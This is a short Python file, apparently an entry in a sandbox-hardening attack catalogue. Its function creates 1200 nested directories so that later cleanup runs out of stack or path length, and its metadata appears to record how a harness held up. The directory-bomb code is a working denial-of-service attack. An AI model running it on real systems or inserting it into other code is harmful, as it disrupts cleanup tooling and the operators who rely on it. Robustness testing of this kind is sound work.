"""Leave folders nested so deeply that whoever cleans up runs out of stack or of name.

Seen: held
Held from: weak
Limits: file_mb=1
Bare: bites
"""

import os

DEEP = 1200


def attack(**others):
    top = os.open(".", os.O_RDONLY)
    for _ in range(DEEP):
        os.mkdir("deeper")
        os.chdir("deeper")
    os.fchdir(top)
    return "returned"
